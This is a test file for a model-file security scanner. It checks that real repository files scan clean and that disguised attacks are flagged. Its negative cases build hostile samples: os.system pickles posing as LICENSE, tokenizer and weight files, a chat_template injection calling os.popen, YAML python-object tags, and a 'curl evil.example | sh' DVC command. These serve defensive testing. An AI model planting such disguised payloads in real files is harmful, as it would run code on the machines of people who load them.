"""Files real repositories hold are recognised for what they are, and an attacker's file dressed
as one of them is still caught.

Positives use files the real libraries wrote (the zoo); negatives are hand-built payloads.
"""

from __future__ import annotations

import io
import os
import pickle
import shutil
import zipfile
from pathlib import Path

import pytest

from modelaudit.config import ScanConfig
from modelaudit.engine import dispatch
from modelaudit.findings import FileStatus, IssueSeverity
from modelaudit.formats import Format, sniff_path
from modelaudit.rules import data as rd
from modelaudit.rules import text as rt
from tests.dataformats._dataformats_util import assert_clean, rules_of, scan

ZOO = Path(__file__).resolve().parents[1] / "zoo" / "repos"
SHELL = b"cos\nsystem\n(S'echo pwned'\ntR."


class _Shell:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("echo pwned",))


def _critical(path: Path) -> list[str]:
    return [i.message for i in scan(path).issues if i.severity is IssueSeverity.CRITICAL]


def _torch_zip_with_payload() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps(_Shell(), protocol=2))
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def _copy(src: str, dst: Path) -> Path:
    shutil.copy(ZOO / src, dst)
    return dst


# -- what real repositories hold


@pytest.mark.parametrize(
    ("src", "fmt"),
    [
        ("project-files/LICENSE", Format.TEXT),
        ("project-files/NOTICE", Format.TEXT),
        ("project-files/AUTHORS", Format.TEXT),
        ("project-files/COPYRIGHT", Format.TEXT),
        ("project-files/COPYING", Format.TEXT),
        ("dvc-project/.dvc/config", Format.TEXT),
        ("project-files/empty.json", Format.EMPTY),
        ("project-files/pkg/__init__.py", Format.EMPTY),
        ("project-files/train.ipynb", Format.NOTEBOOK),
        ("transformers4-llama-sentencepiece/tokenizer.model", Format.SENTENCEPIECE),
        ("transformers4-t5-spiece/spiece.model", Format.SENTENCEPIECE),
        ("fasttext-training/cc.zoo.4.bin", Format.FASTTEXT),
        ("fasttext-training/classifier.ftz", Format.FASTTEXT),
        ("ctranslate2-conversion/ct2/model.bin", Format.CTRANSLATE2),
        ("gensim-saves/vectors.bin", Format.WORD2VEC),
        ("spacy-pipeline/en_zoo_pipeline/vocab/lookups.bin", Format.MSGPACK),
        ("mlflow-sklearn/model/MLmodel", Format.MLMODEL),
        ("dvc-project/data/train.csv.dvc", Format.DVC),
        ("onnx-exports/external/model.onnx_data", Format.ONNX_EXTERNAL_DATA),
    ],
)
def test_recognised_and_quiet(src: str, fmt: Format) -> None:
    path = ZOO / src
    assert sniff_path(str(path)) == fmt
    result = scan(path)
    assert_clean(result)
    assert not rules_of(result, IssueSeverity.INFO) - {rt.NOTEBOOK_CODE, rt.DVC_POINTER}


def test_mit_license_ending_in_a_dot_is_no_pickle() -> None:
    data = (ZOO / "project-files/LICENSE").read_bytes()
    assert data.rstrip().endswith(b"SOFTWARE.")
    assert sniff_path(str(ZOO / "project-files/LICENSE")) is Format.TEXT


def test_jsonc_is_analysed_like_json() -> None:
    for src in ("tsconfig.json", ".vscode/settings.json", ".devcontainer/devcontainer.json"):
        result = scan(ZOO / "project-files" / src)
        assert_clean(result)
        assert result.metadata.get("dialect") == "jsonc"


def test_notebook_info_counts_code_and_shell_cells() -> None:
    result = scan(ZOO / "project-files/train.ipynb")
    [info] = [i for i in result.issues if i.rule == rt.NOTEBOOK_CODE]
    assert info.details["code_cells"] == 2 and info.details["shell_cells"] == 1


def test_corrupt_sentencepiece_is_complete_with_an_info(tmp_path: Path) -> None:
    data = (ZOO / "transformers4-llama-sentencepiece/tokenizer.model").read_bytes()
    path = tmp_path / "tokenizer.model"
    path.write_bytes(data[: len(data) // 2] + b"\x0a\x20")  # a piece that never comes
    result = scan(path)
    assert result.status is FileStatus.COMPLETE
    assert rules_of(result) == {rd.DATA_ONLY_CORRUPT}


# -- attackers' files dressed as those formats


@pytest.mark.parametrize("name", ["LICENSE", "NOTICE", "COPYING", "AUTHORS", "config"])
def test_protocol0_pickle_named_like_a_text_file_is_critical(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(SHELL)
    assert _critical(path)


def test_payload_before_license_text_is_critical(tmp_path: Path) -> None:
    """pickle.load runs the REDUCE before it meets the text that breaks the stream."""
    path = tmp_path / "LICENSE"
    path.write_bytes(SHELL[:-1] + (ZOO / "project-files/LICENSE").read_bytes())
    assert sniff_path(str(path)) is Format.PICKLE
    assert _critical(path)


@pytest.mark.parametrize("name", ["MLmodel", "lookups.bin", "model"])
def test_headerless_pickles_are_not_taken_for_yaml_or_msgpack(tmp_path: Path, name: str) -> None:
    """pickle.load needs no PROTO header: `\\x8c\\xa5...` is a msgpack map to one reader and a
    SHORT_BINUNICODE to the other, and a protocol 0 pickle is valid YAML."""
    key = "k" * 0xA5
    bare = pickle.dumps((key, _Shell()), protocol=4)[11:]  # no PROTO, no FRAME
    assert bare[:2] == b"\x8c\xa5"
    for data in (bare, SHELL):
        path = tmp_path / name
        path.write_bytes(data)
        assert _critical(path), (name, data[:8])


def test_long_protocol0_pickle_is_never_called_text(tmp_path: Path) -> None:
    path = tmp_path / "NOTICE"
    path.write_bytes(pickle.dumps(["x" * 6000, _Shell()], protocol=0))
    assert sniff_path(str(path)) is not Format.TEXT


@pytest.mark.parametrize(
    "name",
    [
        "tokenizer.model",
        "spiece.model",
        "cc.en.300.bin",
        "model.ftz",
        "model.bin",
        "vectors.bin",
        "lookups.bin",
        "notebook.ipynb",
        "MLmodel",
        "empty.bin",
    ],
)
def test_pickle_named_like_a_recognised_file_is_critical(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(pickle.dumps(_Shell(), protocol=2))
    assert _critical(path)


@pytest.mark.parametrize(
    "src",
    [
        "transformers4-llama-sentencepiece/tokenizer.model",
        "fasttext-training/cc.zoo.4.bin",
        "ctranslate2-conversion/ct2/model.bin",
        "gensim-saves/vectors.bin",
        "project-files/LICENSE",
    ],
)
def test_real_file_with_an_appended_torch_zip_is_critical(tmp_path: Path, src: str) -> None:
    """torch.load opens the zip at the end of any file; the recognised head hides nothing."""
    path = tmp_path / Path(src).name
    path.write_bytes((ZOO / src).read_bytes() + _torch_zip_with_payload())
    assert _critical(path)


def test_msgpack_lookups_with_an_embedded_pickle_is_reported(tmp_path: Path) -> None:
    import msgpack

    path = tmp_path / "lookups.bin"
    path.write_bytes(msgpack.packb({"lexeme_norm": pickle.dumps(_Shell(), protocol=2)}))
    result = scan(path)
    assert any(i.severity.rank >= IssueSeverity.WARNING.rank for i in result.issues)


def test_jsonc_chat_template_injection_is_critical(tmp_path: Path) -> None:
    path = tmp_path / "tokenizer_config.json"
    path.write_text(
        '{\n  // written by hand\n  "chat_template": "{{ cycler.__init__.__globals__.os.popen('
        "'id').read() }}\",\n}\n"
    )
    assert _critical(path)


def test_mlmodel_with_a_foreign_loader_or_shipped_code_warns(tmp_path: Path) -> None:
    src = (ZOO / "mlflow-sklearn/model/MLmodel").read_text()
    path = tmp_path / "MLmodel"
    path.write_text(src.replace("loader_module: mlflow.sklearn", "loader_module: evil.loader"))
    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.MLMODEL_LOADER}
    path.write_text(src.replace("code: null", "code: code"))
    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.MLMODEL_LOADER}
    path.write_text(src + "extra: !!python/object/apply:os.system ['id']\n")
    assert _critical(path)


def test_dvc_stage_command_warns_and_python_tags_are_critical(tmp_path: Path) -> None:
    src = (ZOO / "dvc-project/data/train.csv.dvc").read_text()
    path = tmp_path / "train.csv.dvc"
    path.write_text("cmd: curl evil.example | sh\n" + src)
    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.DVC_STAGE_COMMAND}
    path.write_text(src + "meta: !!python/object/apply:os.system ['id']\n")
    assert _critical(path)


@pytest.mark.parametrize("name", ["model.onnx_data", "model.onnx.data"])
def test_onnx_external_data_is_complete_even_strict_but_a_pickle_in_it_is_caught(
    tmp_path: Path, name: str
) -> None:
    path = _copy("onnx-exports/external/model.onnx_data", tmp_path / name)
    assert_clean(dispatch.scan_path(str(path), ScanConfig(strict=True).scanner_config()))
    path.write_bytes(pickle.dumps(_Shell(), protocol=2))
    assert _critical(path)


#: The head of the IR graph that OpenVINO 2026.4's `save_model` wrote for an ONNX MLP, and
#: the first weight bytes it wrote beside it (f16 compressed, and f32): raw floats, whose
#: first bytes are a LIST opcode with no MARK and no opcode at all.
_IR_GRAPH = (
    '<?xml version="1.0"?>\n<net name="onnx_Frontend_IR" version="11">\n\t<layers>\n'
    '\t\t<layer id="0" name="x" type="Parameter" version="opset1">\n'
    '\t\t\t<data shape="1,8" element_type="f32" />\n\t\t</layer>\n'
    '\t\t<layer id="1" name="0.weight" type="Const" version="opset1">\n'
    '\t\t\t<data element_type="f32" shape="16, 8" offset="0" size="512" />\n\t\t</layer>\n'
    "\t</layers>\n</net>\n"
)
_IR_WEIGHTS = [
    "6c991232a8b42ab45cb0112e2c9f7c3404a8fd2dd7ae73ac67b57eb3aab0b5227930ca32acb3edb01c30b334a8ac3c34",
    "22792dbb9c36423eb1fc94be1d3885bed6700bbeab2ac23d578ae5bb40878f3ede8300bd9799bf3d5dd3dabd1b548ebd",
]


@pytest.mark.parametrize("weights", _IR_WEIGHTS)
def test_openvino_ir_weights_are_complete_but_not_without_their_graph(
    tmp_path: Path, weights: str
) -> None:
    data = bytes.fromhex(weights)
    (tmp_path / "openvino_model.xml").write_text(_IR_GRAPH)
    path = tmp_path / "openvino_model.bin"
    path.write_bytes(data)
    result = scan(path)
    assert_clean(result)
    assert result.metadata["weights_of"] == "openvino_ir:openvino_model.xml"
    # no graph beside it, or a graph of another kind: a broken pickle, as before
    for graph in (None, '<?xml version="1.0"?>\n<PMML version="4.4">\n</PMML>\n'):
        other = tmp_path / ("alone" if graph is None else "pmml")
        other.mkdir()
        if graph is not None:
            (other / "openvino_model.xml").write_text(graph)
        (other / "openvino_model.bin").write_bytes(data)
        assert scan(other / "openvino_model.bin").status is FileStatus.INCONCLUSIVE


def test_pickles_named_as_openvino_weights_are_still_judged(tmp_path: Path) -> None:
    (tmp_path / "openvino_model.xml").write_text(_IR_GRAPH)
    path = tmp_path / "openvino_model.bin"
    for payload in (SHELL, pickle.dumps(_Shell(), protocol=2), pickle.dumps(_Shell(), protocol=0)):
        path.write_bytes(payload)
        assert _critical(path)
    # a pickle that imports before it breaks is not raw weights
    path.write_bytes(b"cos\nsystem\n" + bytes.fromhex(_IR_WEIGHTS[0]))
    result = scan(path)
    assert "weights_of" not in result.metadata
    assert result.status is FileStatus.INCONCLUSIVE or _critical(path)


def _tiktoken_ranks(count: int = 300) -> bytes:
    """What `tiktoken.load.dump_tiktoken_bpe` writes (Llama 3's `original/tokenizer.model`,
    Kimi's `tiktoken.model`): the 256 single bytes, then merged tokens, by rank."""
    import base64

    tokens = [bytes([i]) for i in range(256)] + [b" the", b"ing", b" model", b"\xe4\xb8\xad"]
    tokens += [b"tok%d" % i for i in range(count - len(tokens))]
    return b"".join(base64.b64encode(t) + b" %d\n" % rank for rank, t in enumerate(tokens))


@pytest.mark.parametrize("name", ["tokenizer.model", "tiktoken.model", "qwen.tiktoken"])
def test_tiktoken_ranks_are_recognised_and_complete(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(_tiktoken_ranks())
    assert sniff_path(str(path)) is Format.TIKTOKEN
    result = scan(path)
    assert_clean(result)
    assert result.metadata["data_only"] == "300 tokens"
    # a line that is no token: still data, a corrupt file
    path.write_bytes(_tiktoken_ranks() + b"not a token line\n")
    result = scan(path)
    assert result.status is FileStatus.COMPLETE
    assert rules_of(result) == {rd.DATA_ONLY_CORRUPT}


def test_pickles_named_as_tiktoken_ranks_are_still_judged(tmp_path: Path) -> None:
    path = tmp_path / "tokenizer.model"
    for payload in (SHELL, pickle.dumps(_Shell(), protocol=0), pickle.dumps(_Shell(), protocol=2)):
        path.write_bytes(payload)
        assert sniff_path(str(path)) is not Format.TIKTOKEN
        assert _critical(path)


def _coreml_weights(blobs: list[bytes], dtype: int = 1) -> bytes:
    """The layout coremltools 9.0's MIL blob writer gives `weights/weight.bin`: a version-2
    header, then per blob a 0xDEADBEEF record (type, size, offset) and its bytes, each on a
    64-byte boundary."""
    import struct

    out = bytearray(struct.pack("<II", len(blobs), 2) + bytes(56))
    for blob in blobs:
        at = len(out)
        out += struct.pack("<4sIQQ", b"\xef\xbe\xad\xde", dtype, len(blob), at + 64) + bytes(40)
        out += blob + bytes(-len(blob) % 64)
    return bytes(out)


def test_coreml_weight_blobs_are_recognised_and_complete(tmp_path: Path) -> None:
    weights = tmp_path / "program.mlpackage" / "Data" / "com.apple.CoreML" / "weights"
    weights.mkdir(parents=True)
    path = weights / "weight.bin"
    one = _coreml_weights([bytes(range(256)) * 2])
    # the first 88 bytes coremltools wrote for one float32 (4, 32) constant
    assert (
        one[:88].hex()
        == "01000000020000" + "00" * 57 + "efbeadde01000000000200000000000080" + "00" * 7
    )
    path.write_bytes(one)
    assert sniff_path(str(path)) is Format.COREML_WEIGHTS
    assert_clean(scan(path))
    path.write_bytes(_coreml_weights([b"\x01" * 160, b"\x02" * 56, b"\x03" * 84, b"\x04" * 12]))
    result = scan(path)
    assert_clean(result)
    assert result.metadata["data_only"] == "4 weight blobs"
    # a record placing its bytes past the end: corrupt data, still nothing to run
    path.write_bytes(one[:-64])
    result = scan(path)
    assert result.status is FileStatus.COMPLETE
    assert rules_of(result) == {rd.DATA_ONLY_CORRUPT}


def test_pickles_named_as_coreml_weights_are_still_judged(tmp_path: Path) -> None:
    path = tmp_path / "weight.bin"
    for payload in (SHELL, pickle.dumps(_Shell(), protocol=2)):
        path.write_bytes(payload + _coreml_weights([b"\x00" * 64])[len(payload) :])
        assert sniff_path(str(path)) is not Format.COREML_WEIGHTS
        assert _critical(path)


def _tfjs_manifest(paths: list[str]) -> str:
    """A layers-model `model.json` as the TensorFlow.js 4.22 converter writes it."""
    import json

    weights = [{"name": "dense/kernel", "shape": [4, 8], "dtype": "float32"}]
    return json.dumps(
        {
            "format": "layers-model",
            "generatedBy": "keras v2.15.0",
            "convertedBy": "TensorFlow.js Converter v4.22.0",
            "modelTopology": {"class_name": "Sequential", "config": {"layers": []}},
            "weightsManifest": [{"paths": paths, "weights": weights}],
        }
    )


def test_tfjs_weight_shards_are_complete_only_when_the_manifest_names_them(
    tmp_path: Path,
) -> None:
    shards = ["group1-shard1of2.bin", "group1-shard2of2.bin"]
    (tmp_path / "model.json").write_text(_tfjs_manifest(shards))
    for name, weights in zip(shards, _IR_WEIGHTS, strict=True):
        (tmp_path / name).write_bytes(bytes.fromhex(weights))
        result = scan(tmp_path / name)
        assert_clean(result)
        assert result.metadata["weights_of"] == "tfjs:model.json"
    stray = tmp_path / "group2-shard1of1.bin"
    stray.write_bytes(bytes.fromhex(_IR_WEIGHTS[0]))
    assert scan(stray).status is FileStatus.INCONCLUSIVE
    (tmp_path / shards[0]).write_bytes(SHELL)
    assert _critical(tmp_path / shards[0])


#: What pnnx 20261020 wrote for a Conv2d-ReLU-pool-Linear net: the graph's first lines, and
#: the weights' first bytes (ncnn's fp16 tag 0x01306B47, then half floats).
_NCNN_PARAM = (
    "7767517\n4 4\nInput                    in0                      0 1 in0\n"
    "Convolution              convrelu_0               1 1 in0 1 0=8 1=3 11=3 12=1 13=1 14=0 "
    "2=1 3=1 4=0 5=1 6=216 9=1\n"
)
_NCNN_WEIGHTS = "476b3001e7959b2e12b188b0beac9b2acf9be2305fa4852a72abd8a8e2b114b0"


def test_ncnn_weights_beside_their_graph_are_complete(tmp_path: Path) -> None:
    for stem in ("model.ncnn", "squeezenet"):
        (tmp_path / f"{stem}.param").write_text(_NCNN_PARAM)
        path = tmp_path / f"{stem}.bin"
        path.write_bytes(bytes.fromhex(_NCNN_WEIGHTS))
        result = scan(path)
        assert_clean(result)
        assert result.metadata["weights_of"] == f"ncnn:{stem}.param"
    # a .param that is no ncnn graph vouches for nothing
    (tmp_path / "other.param").write_text("77675170\n")
    (tmp_path / "other.bin").write_bytes(bytes.fromhex(_NCNN_WEIGHTS))
    assert scan(tmp_path / "other.bin").status is FileStatus.INCONCLUSIVE
    (tmp_path / "model.ncnn.bin").write_bytes(SHELL)
    assert _critical(tmp_path / "model.ncnn.bin")


def _llama2c_checkpoint(shared: bool = True) -> bytes:
    """What llama2.c's `export.py` (legacy_export) writes: seven int32, then the float32
    weights run.c maps (embeddings, per-layer norms and matrices, final norm, RoPE tables)."""
    import struct

    dim, hidden, layers, heads, kv_heads, vocab, seq = 64, 172, 2, 4, 4, 96, 32
    head = dim // heads
    count = vocab * dim + dim + seq * head
    count += layers * (2 * dim + 2 * dim * dim + 2 * dim * kv_heads * head + 3 * dim * hidden)
    count += 0 if shared else vocab * dim
    header = struct.pack(
        "<7i", dim, hidden, layers, heads, kv_heads, vocab if shared else -vocab, seq
    )
    return header + struct.pack("<f", 0.25) * count


def _llama2c_tokenizer(count: int = 96) -> bytes:
    """`export_tokenizer.py`'s layout: the longest token's length, then score, length, bytes."""
    import struct

    tokens = [b"<unk>", b"\n<s>\n", b"\n</s>\n"] + [b"<0x%02X>" % i for i in range(count - 3)]
    body = b"".join(struct.pack("<fI", -float(i), len(t)) + t for i, t in enumerate(tokens))
    return struct.pack("<I", max(len(t) for t in tokens)) + body


@pytest.mark.parametrize("shared", [True, False])
def test_llama2c_files_are_recognised_and_complete(tmp_path: Path, shared: bool) -> None:
    model = tmp_path / "stories15M.bin"
    model.write_bytes(_llama2c_checkpoint(shared))
    assert sniff_path(str(model)) is Format.LLAMA2C
    assert_clean(scan(model))
    tokenizer = tmp_path / "tokenizer.bin"
    tokenizer.write_bytes(_llama2c_tokenizer(96 if shared else 2000))
    assert sniff_path(str(tokenizer)) is Format.LLAMA2C_TOKENIZER
    result = scan(tokenizer)
    assert_clean(result)
    assert result.metadata["data_only"] == f"{96 if shared else 2000} tokens"
    # a size its header does not imply: no checkpoint, a broken pickle as before
    model.write_bytes(_llama2c_checkpoint(shared) + b"\0\0\0\0")
    assert scan(model).status is FileStatus.INCONCLUSIVE


def test_pickles_named_as_llama2c_files_are_still_judged(tmp_path: Path) -> None:
    path = tmp_path / "tokenizer.bin"
    for payload in (SHELL, pickle.dumps(_Shell(), protocol=2)):
        path.write_bytes(payload + _llama2c_tokenizer()[len(payload) :])
        assert sniff_path(str(path)) not in (Format.LLAMA2C, Format.LLAMA2C_TOKENIZER)
        assert _critical(path)


_LFS = (
    b"version https://git-lfs.github.com/spec/v1\n"
    b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    b"size 503316480\n"
)


@pytest.mark.parametrize(
    "name", ["model.safetensors", "pytorch_model.bin", "model.pkl", "data.parquet", "model.h5"]
)
def test_git_lfs_pointers_say_what_was_not_scanned(tmp_path: Path, name: str) -> None:
    """A clone without Git LFS: each weight file is a pointer. Before, a pointer named
    `.safetensors` was a "header length exceeds the 100 MB cap" WARNING, others malformed."""
    from modelaudit.rules.core import LFS_POINTER

    path = tmp_path / name
    path.write_bytes(_LFS)
    result = scan(path)
    assert result.scanner_name == "lfs_pointer"
    assert result.status is FileStatus.INCONCLUSIVE
    assert "git lfs pull" in (result.status_reason or "")
    (found,) = [i for i in result.issues if i.rule == LFS_POINTER]
    assert found.details == {"sha256": _LFS.split(b":")[2][:64].decode(), "size": 503316480}
    assert not [i for i in result.issues if i.severity.rank >= IssueSeverity.WARNING.rank]


def test_text_that_only_starts_like_a_pointer_is_text(tmp_path: Path) -> None:
    path = tmp_path / "NOTES"
    path.write_bytes(_LFS + b"and then some notes\n")
    result = scan(path)
    assert result.scanner_name != "lfs_pointer"
